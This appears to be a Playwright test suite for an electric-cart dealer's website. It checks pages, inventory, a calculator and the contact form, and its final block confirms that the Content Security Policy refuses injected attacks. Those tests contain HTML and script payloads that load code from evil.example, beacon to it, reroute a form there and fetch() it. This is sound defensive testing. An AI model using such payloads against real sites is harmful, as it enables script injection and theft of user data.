// Errand: using every part of the site without meeting its content policy, which nobody notices but an attacker.
import { fillMessage } from './fill-message.ts';
import { expect, test as base } from './fixtures.ts';
import { scrollThrough } from './scroll-through.ts';
import { templates } from './templates.ts';

/** A test that fails on any report of the content policy; what it found is in `reports`. */
const test = base.extend<{ reports: string[]; refusesOnPurpose: boolean }>({
  refusesOnPurpose: [false, { option: true }],
  reports: [
    async ({ context, refusesOnPurpose }, use) => {
      const reports: string[] = [];
      await context.exposeBinding('reportViolation', (_, report: string) => void reports.push(report));
      await context.addInitScript(() => {
        document.addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI, sample }) => {
          const { reportViolation } = window as unknown as { reportViolation: (report: string) => void };
          reportViolation(`${effectiveDirective} refuses ${blockedURI} ${sample}`.trim());
        });
      });
      // Google answers in its place, so that a map is a page in a frame as it is for visitors.
      await context.route('https://www.google.com/maps**', (route) =>
        route.fulfill({ contentType: 'text/html', body: '<!doctype html><title>Map</title><p>A map</p>' }),
      );
      await use(reports);
      if (!refusesOnPurpose) expect(reports, 'reports of the content policy').toEqual([]);
    },
    { auto: true },
  ],
});

for (const path of templates) {
  test(`${path} is seen from top to bottom, its menus opened`, async ({ page }) => {
    await page.goto(path);
    await scrollThrough(page);
    for (const menu of await page.locator('header summary:visible').all()) await menu.click();
    await page.setViewportSize({ width: 390, height: 844 });
    await page.locator('summary', { hasText: 'Menu' }).click();
    await expect(page.locator('astro-island:not([ssr]) > details[open]')).toHaveCount(1);
    await page.keyboard.press('Escape');
    await scrollThrough(page);
  });
}

test('the inventory is searched, filtered, compared and emptied, and one cart is opened', async ({
  page,
}) => {
  await page.goto('/inventory?compare=ev-city,ev-nomad');
  await expect(page.getByRole('table')).toBeVisible();
  await page.getByLabel('Brand').selectOption('denago');
  await page.getByLabel('Search').fill('submarine');
  await page.getByRole('button', { name: 'Clear All Filters' }).click();
  await page.getByRole('link', { name: 'Denago EV Nomad XL', exact: true }).click();
  await expect(page).toHaveURL('/vehicles/ev-nomad-xl');
});

test('the inventory says that its API fails', async ({ page }) => {
  await page.route('**/api/vehicles', (route) => route.fulfill({ status: 404, body: 'gone' }));
  await page.goto('/inventory');
  await expect(page.getByRole('button', { name: 'Try again' })).toBeVisible();
});

test('the calculator calculates', async ({ page }) => {
  await page.goto('/eco-impact');
  await page.getByRole('button', { name: 'Calculate Impact' }).click();
  await expect(page.getByText('Great Choice for the Environment!')).toBeVisible();
});

test('the form is refused, fails, and is sent', async ({ page }) => {
  let isDown = true;
  await page.route('**/api/contact', (route) => (isDown ? route.abort() : route.continue()));
  await page.goto('/contact');
  const form = page.getByRole('form', { name: 'Contact' });
  await expect(form).toHaveJSProperty('noValidate', true);
  const send = page.getByRole('button', { name: 'Send Message' });
  await send.click();
  await expect(page.getByRole('link', { name: 'First name is required' })).toBeVisible();
  await fillMessage(page);
  await send.click();
  await page.getByRole('button', { name: 'Close message' }).click();
  isDown = false;
  await send.click();
  await expect(page).toHaveURL('/thank-you');
});

test('a form that the browser posts by itself comes back in its own dress', async ({ page }) => {
  await page.goto('/contact');
  await page.locator('form').evaluate((form: HTMLFormElement) => {
    form.submit();
  });
  const button = page.getByRole('button', { name: 'Send Message' });
  await expect(page.getByRole('heading', { name: 'There is a problem' })).toBeVisible();
  await expect(button).toHaveCSS('background-color', 'rgb(181, 66, 26)');
});

test.describe('what an attacker would put into a page', () => {
  test.use({ refusesOnPurpose: true, expectedErrors: [/Content Security Policy/] });

  const attacks: [what: string, directive: string, html: string][] = [
    ['a script in the page', 'script-src-elem', '<script>window.attacked = true</script>'],
    ['a script of another site', 'script-src-elem', '<script src="https://evil.example/a.js"></script>'],
    ['a handler in an attribute', 'script-src-attr', '<img src="/icon.svg" onload="window.attacked = true">'],
    ['a style in an attribute', 'style-src-attr', '<p style="position: fixed; inset: 0">Pay here</p>'],
    [
      'a style sheet of another site',
      'style-src-elem',
      '<link rel="stylesheet" href="https://evil.example/a.css">',
    ],
    ['a picture that tells another site', 'img-src', '<img src="https://evil.example/seen.gif">'],
    ['a frame of another site', 'frame-src', '<iframe src="https://evil.example/"></iframe>'],
    ['a plug-in', 'object-src', '<object data="/listings.json"></object>'],
    ['another base for every link', 'base-uri', '<base href="https://evil.example/">'],
  ];
  for (const [what, directive, html] of attacks) {
    test(`is refused: ${what}`, async ({ page, reports, externalRequests }) => {
      await page.goto('/about');
      await page.evaluate((text) => {
        // A fragment runs its scripts, other than text that is set as innerHTML.
        document.body.append(document.createRange().createContextualFragment(text));
      }, html);
      await expect.poll(() => reports.join()).toMatch(new RegExp(`^${directive} refuses`));
      expect(await page.evaluate(() => 'attacked' in window)).toBe(false);
      expect(externalRequests).toEqual([]);
    });
  }

  test('is refused: a form that sends what is typed elsewhere', async ({
    page,
    reports,
    externalRequests,
  }) => {
    await page.goto('/contact');
    await page.locator('form').evaluate((form: HTMLFormElement) => {
      form.action = 'https://evil.example/';
      form.submit();
    });
    await expect.poll(() => reports.join()).toMatch(/^form-action refuses/);
    expect(externalRequests).toEqual([]);
  });

  test('is refused: a script that tells another site', async ({ page, reports, externalRequests }) => {
    await page.goto('/about');
    await page.evaluate(() => fetch('https://evil.example/').catch(() => undefined));
    await expect.poll(() => reports.join()).toMatch(/^connect-src refuses/);
    expect(externalRequests).toEqual([]);
  });
});
